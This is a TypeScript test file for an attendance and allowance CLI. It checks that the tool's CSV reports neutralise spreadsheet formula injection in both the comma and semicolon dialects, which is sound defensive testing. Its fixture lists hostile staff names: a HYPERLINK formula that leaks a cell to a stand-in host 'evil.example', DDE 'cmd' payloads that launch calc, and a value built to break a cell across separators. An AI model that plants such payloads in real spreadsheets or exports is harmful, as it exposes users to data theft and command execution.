import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { parse } from 'csv-parse/sync';
import { hadir as runHadirCli } from '../e2e/harness.js';

const FIX = join(import.meta.dirname, '..', 'attendance', 'fixtures');
let dir: string;

/** The real `hadir` CLI on this test's data dir (the e2e harness's runner), as { code, out, err }. */
async function hadir(...args: string[]): Promise<{ code: number; out: string; err: string }> {
  const r = await runHadirCli(args, { HADIR_DATA_DIR: dir, HADIR_ADMIN: 'operator-bkpsdm' });
  return { code: r.code, out: r.stdout, err: r.stderr };
}

/** Staff names an insider could type into the BKPSDM master file (issue 13, finding 4). */
const EVIL = {
  '198501012010011001': '=HYPERLINK("http://evil.example/steal?d="&A1,"klik")',
  '199005122015032002': "-2+3+cmd|' /C calc'!A0",
  '198703142011012004': '@SUM(1+1)*cmd|\' /C calc\'!A0',
  '198001012005011003': 'Ani;=1+1,+2', // a cell could start inside the value in the other dialect
};
/** Read as a spreadsheet in either locale would (',' or ';' between fields, quotes respected): no cell starts a formula. */
function noFormulaWithEitherSeparator(text: string): void {
  for (const delimiter of [',', ';']) {
    const cells = (parse(text, { delimiter, bom: true, relax_quotes: true, relax_column_count: true }) as string[][]).flat();
    expect(cells.filter((c) => /^[=+\-@\t\r]/.test(c)), `cells split on '${delimiter}'`).toEqual([]);
  }
}
/** The name as typed, with `'` where a spreadsheet would start a formula (at the start, or after a separator). */
const asText = (s: string) => s.replace(/^(?=[=+\-@])/, "'").replace(/([,;])(?=[=+\-@])/g, "$1'");
const csvField = (s: string) => `"${s.replaceAll('"', '""')}"`;

/**
 * CSV formula injection: the TPP and attendance CSV of the real `hadir report` command (both
 * dialects) give every text cell that a spreadsheet would run as a formula a leading `'`, quote a
 * value holding either separator, and keep the numeric columns numbers (OWASP "CSV Injection").
 */
describe('CSV exports neutralise spreadsheet formulas (TPP and attendance, en and id dialects)', () => {
  beforeAll(async () => {
    dir = mkdtempSync(join(tmpdir(), 'hadir-sec-csv-'));
    expect((await hadir('import', 'org', join(FIX, 'org.csv'))).code).toBe(0);
    const staff = join(dir, 'staff.csv');
    writeFileSync(staff, ['nip,name,opd,unit,employment,job_class,tpp_base,schedule',
      ...Object.entries(EVIL).map(([nip, name], i) => `${nip},${csvField(name)},DISDIK,DISDIK-SEK,ASN,Pelaksana,${4_000_000 + i * 250_000},KANTOR5`)].join('\n') + '\n');
    const st = await hadir('import', 'staff', staff);
    expect(st.code, st.out + st.err).toBe(0);
    expect((await hadir('rules', 'add', join(FIX, 'perbup-2026-01.json'))).code).toBe(0);
  });
  afterAll(() => rmSync(dir, { recursive: true, force: true }));

  for (const dialect of ['en', 'id'] as const) {
    const opts = dialect === 'id' ? { delimiter: ';', bom: true } : { delimiter: ',' };
    it(`TPP CSV (${dialect})`, async () => {
      const r = await hadir('report', 'tpp', '--month', '2026-10', '--format', 'csv', '--csv-dialect', dialect);
      expect(r.code, r.err).toBe(0);
      const rows = parse(r.out, { ...opts, columns: true }) as Record<string, string>[];
      expect(rows).toHaveLength(4);
      for (const row of rows) {
        const evil = EVIL[row.NIP as keyof typeof EVIL];
        // the name as it was typed, behind the quote that makes it text
        expect(row.Nama).toBe(asText(evil));
        expect(row['TPP Dasar (Rp)']).toMatch(/^\d+$/); // numbers stay numbers
        expect(row['Potongan (%)']).toMatch(dialect === 'id' ? /^\d+(,\d+)?$/ : /^\d+(\.\d+)?$/);
        for (const cell of Object.values(row)) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
      }
      noFormulaWithEitherSeparator(r.out);
    });

    it(`attendance CSV (${dialect})`, async () => {
      const r = await hadir('report', 'attendance', '--month', '2026-10', '--format', 'csv', '--csv-dialect', dialect);
      expect(r.code, r.err).toBe(0);
      const rows = parse(r.out, { ...opts, columns: true }) as Record<string, string>[];
      expect(rows).toHaveLength(4);
      for (const row of rows) {
        const evil = EVIL[row.NIP as keyof typeof EVIL];
        expect(row.Nama).toBe(asText(evil));
        expect(row['Hari Kerja']).toMatch(/^\d+$/);
        for (const cell of Object.values(row)) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
      }
      noFormulaWithEitherSeparator(r.out);
    });
  }
});
